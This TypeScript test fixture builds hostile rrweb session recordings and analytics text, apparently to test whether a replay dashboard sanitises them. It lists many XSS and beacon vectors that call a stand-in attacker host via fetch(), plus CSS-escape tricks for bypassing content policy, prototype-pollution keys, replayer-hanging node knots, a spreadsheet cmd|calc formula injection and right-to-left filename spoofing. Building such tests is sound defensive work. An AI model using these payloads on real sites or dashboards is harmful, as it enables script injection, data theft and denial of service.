/**
 * What somebody who writes beacons by hand could put into a recording. Every vector reports to `evil`, or where our own
 * policy would stop it to the dashboard's origin, under its own name when it loads anything, and calls `ran(name)` when
 * anything runs. Past 200 lines, because it is one list.
 */
import { EventType, IncrementalSource, NodeType } from '@rrweb/types';

export interface Vector {
  name: string;
  /** Nodes for the body, to be given ids. */
  nodes?: Draft[];
  /** `data` of incremental events; `target` is the id of the vector's first node. */
  changes?: (target: number) => object[];
}

export interface Draft {
  type: NodeType;
  /** One that is taken by another node of the page; else it is given one. */
  id?: number;
  tagName?: string;
  attributes?: Record<string, unknown>;
  childNodes?: Draft[];
  textContent?: string;
  isSVG?: boolean;
  isStyle?: boolean;
  isCustom?: boolean;
  isShadowHost?: boolean;
  isShadow?: boolean;
}

const text = (textContent: string): Draft => ({ type: NodeType.Text, textContent });
const element = (tagName: string, attributes: Record<string, unknown> = {}, childNodes: Draft[] = []): Draft => ({
  type: NodeType.Element,
  tagName,
  attributes,
  childNodes,
});
const svg = (tagName: string, attributes: Record<string, unknown> = {}, childNodes: Draft[] = []): Draft => ({
  ...element(tagName, attributes, childNodes),
  isSVG: true,
});
const mutation = (data: object): object => ({
  source: IncrementalSource.Mutation,
  ...{ adds: [], removes: [], texts: [], attributes: [] },
  ...data,
});

/** Under it, what is loaded from the dashboard's own origin, which its policy lets through. */
export const ownPlace = '/reached/';

/** All vectors against a host, whose address ends in `/`. */
export function hostileVectors(evil: string): Vector[] {
  const at = (name: string) => `${evil}${name}`;
  const own = (name: string) => `${ownPlace}${name}`;
  const ran = (name: string) => `top.ran&&top.ran('${name}');parent.ran&&parent.ran('${name}');fetch('${at(name)}')`;
  const one = (name: string, make: (name: string) => Draft): Vector => ({ name, nodes: [make(name)] });
  const style = (name: string, css: (address: string) => string): Vector =>
    one(name, () => element('style', { _cssText: css(at(name)) }));
  const ownStyle = (css: string): Draft => element('style', { _cssText: css });
  const handler = (name: string, tag: string, on: string, attributes: Record<string, unknown> = {}): Vector =>
    one(name, () => element(tag, { [on]: ran(name), tabindex: '0', ...attributes }, [text(name)]));
  const changed = (name: string, tag: string, attributes: (name: string) => Record<string, unknown>): Vector => ({
    name,
    nodes: [element(tag, { id: name })],
    changes: (id) => [mutation({ attributes: [{ id, attributes: attributes(name) }] })],
  });

  return [
    one('script-text', (name) => element('script', {}, [text(ran(name))])),
    one('script-src', (name) => element('script', { src: at(name) })),
    one('script-module', (name) => element('script', { type: 'module', src: at(name) })),
    one('script-svg', (name) => svg('svg', {}, [svg('script', { href: at(name) }, [text(ran(name))])])),
    one('script-noscript', (name) => element('noscript', {}, [element('img', { src: at(name) })])),
    handler('on-error', 'img', 'onerror', { src: 'data:image/png;base64,broken' }),
    handler('on-load', 'img', 'onload', {
      src: 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7',
    }),
    handler('on-load-svg', 'svg', 'onload'),
    handler('on-toggle', 'details', 'ontoggle', { open: '' }),
    handler('on-focus', 'input', 'onfocus', { autofocus: '' }),
    handler('on-animation', 'div', 'onanimationstart', { style: 'animation: spin 1s infinite' }),
    handler('on-begin', 'div', 'ONPOINTEROVER'),
    handler('on-scroll', 'div', 'onscrollend'),
    one('href-javascript', (name) => element('a', { href: `javascript:${ran(name)}` }, [text(name)])),
    one('href-newline', (name) => element('a', { href: `java\nscript:${ran(name)}` }, [text(name)])),
    one('href-data', (name) => element('a', { href: `data:text/html,<script>${ran(name)}</script>` }, [text(name)])),
    one('href-xlink', (name) =>
      svg('svg', {}, [svg('a', { 'xlink:href': `javascript:${ran(name)}` }, [svg('text', {}, [text(name)])])]),
    ),
    one('ping', (name) => element('a', { href: '#', ping: at(name) }, [text(name)])),
    one('iframe-src', (name) => element('iframe', { src: at(name) })),
    one('iframe-srcdoc', (name) =>
      element('iframe', { srcdoc: `<script>${ran(name)}</script><img src="${at(name)}">` }),
    ),
    one('iframe-javascript', (name) => element('iframe', { src: `javascript:${ran(name)}` })),
    one('iframe-rr-src', (name) => element('iframe', { rr_src: at(name) })),
    one('frameset', (name) => element('frameset', {}, [element('frame', { src: at(name) })])),
    one('portal', (name) => element('portal', { src: at(name) })),
    one('object', (name) => element('object', { data: at(name), type: 'text/html' })),
    one('embed', (name) => element('embed', { src: at(name) })),
    one('applet', (name) => element('applet', { code: 'x', codebase: at(name) })),
    one('meta-refresh', (name) => element('meta', { 'http-equiv': 'refresh', content: `0;url=${at(name)}` })),
    one('meta-policy', () => element('meta', { 'http-equiv': 'Content-Security-Policy', content: 'default-src *' })),
    one('meta-dns', () => element('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' })),
    one('base', (name) => element('base', { href: at(name), target: '_top' })),
    one('link-stylesheet', (name) => element('link', { rel: 'stylesheet', href: at(name) })),
    one('link-preload', (name) => element('link', { rel: 'preload', as: 'image', href: at(name) })),
    one('link-prefetch', (name) => element('link', { rel: 'prefetch', href: at(name) })),
    one('link-preconnect', () => element('link', { rel: 'preconnect', href: evil })),
    one('link-dns', () => element('link', { rel: 'dns-prefetch', href: evil })),
    one('link-modulepreload', (name) => element('link', { rel: 'modulepreload', href: at(name) })),
    one('link-icon', (name) => element('link', { rel: 'icon', href: at(name) })),
    one('link-manifest', (name) => element('link', { rel: 'manifest', href: at(name) })),
    one('link-import', (name) => element('link', { rel: 'import', href: at(name) })),
    one('img-src', (name) => element('img', { src: at(name) })),
    one('img-srcset', (name) => element('img', { srcset: `${at(name)} 1x` })),
    one('img-rr-data', (name) => element('img', { rr_dataURL: at(name) })),
    one('img-attribution', (name) => element('img', { attributionsrc: at(name), src: 'data:,' })),
    one('picture-source', (name) => element('picture', {}, [element('source', { srcset: at(name) }), element('img')])),
    one('input-image', (name) => element('input', { type: 'image', src: at(name), formaction: at(name) })),
    one('video-src', (name) => element('video', { src: at(name), autoplay: '', rr_mediaState: 'played' })),
    one('video-poster', (name) => element('video', { poster: at(name) })),
    one('audio-source', (name) => element('audio', {}, [element('source', { src: at(name) })])),
    one('track', (name) => element('video', {}, [element('track', { default: '', src: at(name) })])),
    one('canvas-rr-data', (name) => element('canvas', { rr_dataURL: at(name) })),
    one('table-background', (name) => element('table', { background: at(name) })),
    one('svg-image', (name) => svg('svg', {}, [svg('image', { href: at(name) })])),
    one('svg-use', (name) => svg('svg', {}, [svg('use', { 'xlink:href': `${at(name)}#a` })])),
    one('svg-feimage', (name) => svg('svg', {}, [svg('filter', {}, [svg('feImage', { href: at(name) })])])),
    one('svg-fill', (name) => svg('svg', {}, [svg('rect', { fill: `url(${at(name)}#a)` })])),
    one('svg-set', (name) => svg('svg', {}, [svg('image', {}, [svg('set', { attributeName: 'href', to: at(name) })])])),
    one('svg-animate', (name) =>
      svg('svg', {}, [svg('a', {}, [svg('animate', { attributeName: 'href', values: `javascript:${ran(name)}` })])]),
    ),
    one('foreign-object', (name) =>
      svg('svg', {}, [
        svg('foreignObject', {}, [element('img', { src: at(name) }), element('script', {}, [text(ran(name))])]),
      ]),
    ),
    one('form-submit', (name) =>
      element('form', { action: at(name), id: 'f' }, [element('button', { formaction: at(name), autofocus: '' })]),
    ),
    one('custom-element', (name) => ({ ...element('x-evil', { onclick: ran(name) }), isCustom: true })),
    one('custom-name-bad', () => ({ ...element('annotation-xml', {}), isCustom: true })),
    one('tag-markup', (name) => element(`img src=${at(name)}`, {})),
    one('tag-empty', () => element('', {})),
    one('attribute-markup', (name) => element('div', { [`x><img src=${at(name)}>`]: '' })),
    one('attribute-prototype', () =>
      element('div', JSON.parse('{"__proto__":{"polluted":1},"constructor":"x","toString":"y","hasOwnProperty":"z"}')),
    ),
    one('text-markup', (name) => element('p', {}, [text(`<img src=x onerror="${ran(name)}">`)])),
    one('comment-markup', (name) => ({ type: NodeType.Comment, textContent: `--><script>${ran(name)}</script>` })),
    one('cdata-markup', (name) => ({ type: NodeType.CDATA, textContent: `]]><script>${ran(name)}</script>` })),
    one('textarea-markup', (name) => element('textarea', { value: `</textarea><script>${ran(name)}</script>` })),
    one('shadow-script', (name) => ({
      ...element('div', {}, [
        { ...element('script', {}, [text(ran(name))]), isShadow: true },
        { ...element('img', { src: at(name) }), isShadow: true },
      ]),
      isShadowHost: true,
    })),
    one('shadow-impossible', () => ({ ...element('input', {}), isShadowHost: true })),
    style('css-import', (address) => `@import url(${address});`),
    style('css-import-string', (address) => `@import "${address}" screen;`),
    style('css-background', (address) => `body { background: url(${address}) }`),
    style('css-escaped', (address) => `body { border-image: \\75\\72\\6c(${address}) 1 }`),
    style('css-font', (address) => `@font-face { font-family: evil; src: url(${address}) } body { font-family: evil }`),
    style('css-cursor', (address) => `* { cursor: url(${address}), auto }`),
    style('css-image-set', (address) => `p { background: image-set("${address}" 1x) }`),
    style('css-list', (address) => `ul { list-style: url(${address}) }`),
    style('css-content', (address) => `p::before { content: url(${address}) }`),
    style('css-mask', (address) => `p { mask: url(${address}); clip-path: url(${address}#a) }`),
    style('css-variable', (address) => `:root { --evil: url(${address}) } body { background: var(--evil) }`),
    style('css-namespace', (address) => `@namespace url(${address}); @document url(${address}) { p { color: red } }`),
    style('css-expression', (address) => `p { width: expression(fetch('${address}')); behavior: url(${address}) }`),
    one('style-text', (name) =>
      element('style', {}, [{ ...text(`p { background: url(${at(name)}) }`), isStyle: true }]),
    ),
    one('style-split', (name) => element('style', {}, [text('p { background: ur'), text(`l(${at(name)}) }`)])),
    one('own-escaped', (name) => ownStyle(`p { background: image\\2d set("${own(name)}" 1x) }`)),
    one('own-comment', (name) => ownStyle(`p { background: image-set(/*;*/"${own(name)}" 1x) }`)),
    one('own-variable', (name) => ownStyle(`p { --a: "${own(name)}"; background: image-set(var(--a) 1x) }`)),
    one('own-unclosed', (name) => ownStyle(`p { background: image-set("${own(name)}`)),
    one('own-twice-escaped', (name) => ownStyle(`p { background: url("\\5c 23 /..${own(name)}") }`)),
    one('own-link', (name) =>
      element('link', { rel: 'stylesheet', _cssText: 'b {}' }, [
        text('b {}'),
        text(`p { background: url(${own(name)}) }`),
      ]),
    ),
    one('own-upper-split', (name) => element('STYLE', {}, [text('p { background: ur'), text(`l(${own(name)}) }`)])),
    one('own-cdata', (name) =>
      element('style', {}, [{ type: NodeType.CDATA, textContent: `p { background: url(${own(name)}) }` }]),
    ),
    one('own-svg-style', (name) => svg('x:style', {}, [text(`p { background: url(${own(name)}) }`)])),
    one('own-mask', (name) =>
      svg('svg', {}, [svg('rect', { width: '9', height: '9', mask: `image-set("${own(name)}" 1x)` })]),
    ),
    one('own-srcset', (name) => element('img', { srcset: `data:image/gif;base64,R0lGOD 1x,${own(name)} 2x` })),
    one('own-space', (name) => element('img', { src: `\u00a0data:image/gif,/../..${own(name)}` })),
    {
      name: 'own-pieces',
      nodes: [element('style')],
      changes: (id) => [
        mutation({
          adds: [
            { parentId: id, nextId: null, node: { ...text('p { background: ur'), id: 910_001 } },
            {
              parentId: id,
              previousId: 910_001,
              nextId: null,
              node: { ...text(`l(${own('own-pieces')}) }`), id: 910_002 },
            },
          ],
        }),
      ],
    },
    {
      name: 'own-text-of-element',
      nodes: [element('style', {}, [text('b {}')])],
      changes: (id) => [mutation({ texts: [{ id, value: `p { background: url(${own('own-text-of-element')}) }` }] })],
    },
    {
      name: 'connect-by-id-of-another',
      nodes: [element('div'), element('link', { rel: 'stylesheet' })],
      changes: (id) => [
        mutation({ removes: [{ parentId: 3, id }] }),
        mutation({ adds: [{ parentId: id, nextId: null, node: { ...element('a'), id: id + 1 } }] }),
        mutation({ attributes: [{ id: id + 1, attributes: { rel: 'preconnect', href: evil } }] }),
      ],
    },
    {
      name: 'connect-by-id-of-two',
      nodes: [
        element('div', {}, [{ ...element('a'), id: 920_001 }]),
        { ...element('link', { rel: 'stylesheet' }), id: 920_001 },
      ],
      changes: () => [mutation({ attributes: [{ id: 920_001, attributes: { rel: 'preconnect', href: evil } }] })],
    },
    one('style-attribute', (name) => element('p', { style: `background: url(${at(name)})` })),
    changed('change-src', 'img', (name) => ({ src: at(name) })),
    changed('change-handler', 'div', (name) => ({ onclick: ran(name), onmouseover: ran(name) })),
    changed('change-srcdoc', 'iframe', (name) => ({ srcdoc: `<script>${ran(name)}</script>` })),
    changed('change-style', 'div', (name) => ({
      style: { background: `url(${at(name)})`, color: ['red', 'important'] },
    })),
    changed('change-href', 'a', (name) => ({ href: `javascript:${ran(name)}` })),
    {
      name: 'added-script',
      nodes: [element('div')],
      changes: (parentId) => [
        mutation({
          adds: [
            { parentId, nextId: null, node: { ...element('script', {}, []), id: 900_001 } },
            { parentId: 900_001, nextId: null, node: { ...text(ran('added-script')), id: 900_002 } },
            { parentId, nextId: null, node: { ...element('img', { src: at('added-script') }), id: 900_003 } },
          ],
        }),
      ],
    },
    {
      name: 'text-into-style',
      nodes: [element('style', {}, [text('p{}')])],
      changes: (style) => [
        mutation({ texts: [{ id: style + 1, value: `p { background: url(${at('text-into-style')}) }` }] }),
      ],
    },
    {
      name: 'rules',
      nodes: [element('style', { _cssText: 'p { color: red }' })],
      changes: (id) => [
        {
          source: IncrementalSource.StyleSheetRule,
          id,
          adds: [{ rule: `p { background: url(${at('rules')}) }`, index: 0 }],
        },
        { source: IncrementalSource.StyleSheetRule, id, adds: [{ rule: `@import url(${at('rules')})`, index: 0 }] },
        {
          source: IncrementalSource.StyleDeclaration,
          id,
          index: [0],
          set: { property: 'background', value: `url(${at('rules')})` },
        },
        { source: IncrementalSource.StyleSheetRule, id, adds: [{ rule: 1, index: 'x' }], removes: [{ index: {} }] },
      ],
    },
    {
      name: 'adopted',
      changes: () => [
        {
          source: IncrementalSource.AdoptedStyleSheet,
          id: 1,
          styleIds: [7],
          styles: [{ styleId: 7, rules: [{ rule: `p { background: url(${at('adopted')}) }`, index: 0 }] }],
        },
        {
          source: IncrementalSource.StyleSheetRule,
          styleId: 7,
          replaceSync: `p { background: url(${at('adopted')}) }`,
        },
      ],
    },
    {
      name: 'font-face',
      changes: () => [
        { source: IncrementalSource.Font, family: 'evil', fontSource: `url(${at('font-face')})`, buffer: false },
        { source: IncrementalSource.Font, family: 'evil', fontSource: '{"length":1e9}', buffer: true },
      ],
    },
    {
      name: 'canvas-commands',
      nodes: [element('canvas', { width: '10', height: '10' })],
      changes: (id) => [
        {
          source: IncrementalSource.CanvasMutation,
          id,
          type: 0,
          commands: [{ property: 'constructor', args: [{ rr_type: 'HTMLImageElement', src: at('canvas-commands') }] }],
        },
      ],
    },
    {
      name: 'knots',
      nodes: [element('div', {}, [element('div')])],
      changes: (id) => [
        mutation({ adds: [{ parentId: id + 1, nextId: null, node: { ...element('div'), id } }] }),
        mutation({ adds: [{ parentId: id, nextId: id, node: { ...element('div'), id: 1 } }] }),
        mutation({ removes: [{ parentId: 2, id: 1 }, { parentId: id, id: 1e99 }, null] }),
      ],
    },
    {
      // What rrweb drops of it ties its own nodes into a knot, of which it seeks the end for ever.
      name: 'knot-out-of-sight',
      nodes: [element('div', {}, [element('div', {}, [element('div')])]), element('div')],
      changes: (id) => [
        mutation({ removes: [{ parentId: 3, id: id + 3 }] }),
        mutation({ adds: [{ parentId: id + 3, nextId: null, node: { ...element('div'), id: id + 2 } }] }),
        mutation({ adds: [{ parentId: id + 2, nextId: null, node: { ...element('div'), id } }] }),
        mutation({ adds: [{ parentId: 3, nextId: id + 2, node: { ...element('b'), id: 930_001 } }] }),
      ],
    },
    {
      // For each, rrweb waits half a second.
      name: 'neighbours-that-never-come',
      changes: () =>
        Array.from({ length: 200 }, (_, index) =>
          mutation({ adds: [{ parentId: 3, nextId: 940_999, node: { ...element('b'), id: 940_000 + index } }] }),
        ),
    },
    {
      name: 'rules-of-no-sheet',
      nodes: [element('p')],
      changes: (id) => [
        { source: IncrementalSource.StyleSheetRule, id, adds: [{ rule: 'p { color: red }', index: 0 }] },
        { source: IncrementalSource.MouseInteraction, type: 2, id, x: { toString: 1 }, y: 1 },
        { source: IncrementalSource.MouseInteraction, type: 1.5, id, x: 1, y: 1 },
      ],
    },
    {
      name: 'wrong-ids',
      changes: () => [
        mutation({ adds: [{ parentId: '__proto__', nextId: {}, node: element('div') }, null, 7] }),
        mutation({ adds: 'x', texts: [{ id: -3, value: {} }], attributes: [{ id: 3, attributes: 'x' }] }),
        { source: IncrementalSource.MouseInteraction, type: 'constructor', id: 'x' },
        { source: IncrementalSource.MouseMove, positions: [{ x: 'a', y: null, id: {}, timeOffset: '1' }] },
        { source: IncrementalSource.Scroll, id: Number.MAX_VALUE, x: -1, y: 'x' },
        { source: IncrementalSource.Input, id: 4, text: {}, isChecked: 1 },
        { source: IncrementalSource.ViewportResize, width: 1e308, height: -1 },
        { source: IncrementalSource.Selection, ranges: [{ start: 'x' }] },
        { source: '__proto__' },
        { source: 1_000 },
      ],
    },
    {
      name: 'deep',
      changes: (target) =>
        Array.from({ length: 3_000 }, (_, depth) =>
          mutation({
            adds: [
              {
                parentId: depth === 0 ? 3 : 800_000 + depth - 1,
                nextId: null,
                node: { ...element('i'), id: 800_000 + depth },
              },
            ],
          }),
        ).concat(mutation({ texts: [{ id: target, value: 'x' }] })),
    },
  ];
}

/** Whole rrweb events of a recording with all vectors in it, from `at` (ms) on. */
export function hostileEvents(
  vectors: readonly Vector[],
  at: number,
): { type: number; timestamp: number; data: unknown }[] {
  let lastId = 3;
  const withIds = (draft: Draft): object => {
    lastId += 1;
    const id = draft.id ?? lastId;
    return { ...draft, id, ...(draft.childNodes ? { childNodes: draft.childNodes.map(withIds) } : {}) };
  };
  const changes: object[] = [];
  const body = vectors.flatMap(({ nodes = [], changes: make }) => {
    const target = lastId + 1;
    const given = nodes.map(withIds);
    changes.push(...(make?.(target) ?? []));
    return given;
  });
  const marker = withIds(element('p', { id: 'still-there' }, [text('The page is still there')]));
  const html = {
    ...element('html', {}, []),
    id: 2,
    childNodes: [{ ...element('body', {}), id: 3, childNodes: [marker, ...body] }],
  };
  const node = { type: NodeType.Document, id: 1, childNodes: [html] };
  const timed = (type: EventType, data: unknown, index: number) => ({ type, timestamp: at + index, data });
  return [
    // A page that is none comes first: it would leave nothing of the one before it.
    timed(EventType.FullSnapshot, { node: { type: NodeType.Text, id: 1 } }, 0),
    timed(EventType.Meta, { href: `javascript:alert(1)//https://shop.example/`, width: 1_280, height: 800 }, 0),
    timed(EventType.FullSnapshot, { node, initialOffset: { top: 'x', left: {} } }, 1),
    ...changes.map((data, index) => timed(EventType.IncrementalSnapshot, data, 100 + index)),
    timed(EventType.Custom, { tag: '<script>', payload: { __proto__: 1 } }, 5_000),
    timed(EventType.Plugin, { plugin: 'rrweb/console@1', payload: { level: 'log', payload: ['x'] } }, 5_001),
    timed(77 as EventType, { x: 1 }, 5_002),
    timed(EventType.IncrementalSnapshot, null, 5_003),
    timed(EventType.Meta, { href: { toString: 1 }, width: {}, height: [] }, 5_004),
  ];
}

/** Text that is put into every field of analytics that somebody reads. */
export const hostileTexts = (evil: string): Record<string, string> => ({
  markup: `<img src=${evil}text onerror=top.ran('text')>`,
  close: `"></title></textarea><script>top.ran('close')</script>`,
  template: "{{constructor.constructor('top.ran(1)')()}} #{top.ran(1)}",
  rightToLeft: '\u202Egnp.exe\u202C \u2067abc\u2069',
  zeroWidth: '\u200b\u200d\ufeff',
  formula: '=HYPERLINK("https://evil.example","x")',
  command: "@SUM(1+1)*cmd|' /C calc'!A0",
  prototype: '__proto__',
  long: 'W'.repeat(110),
  combining: `Z${'\u0301'.repeat(100)}`,
});
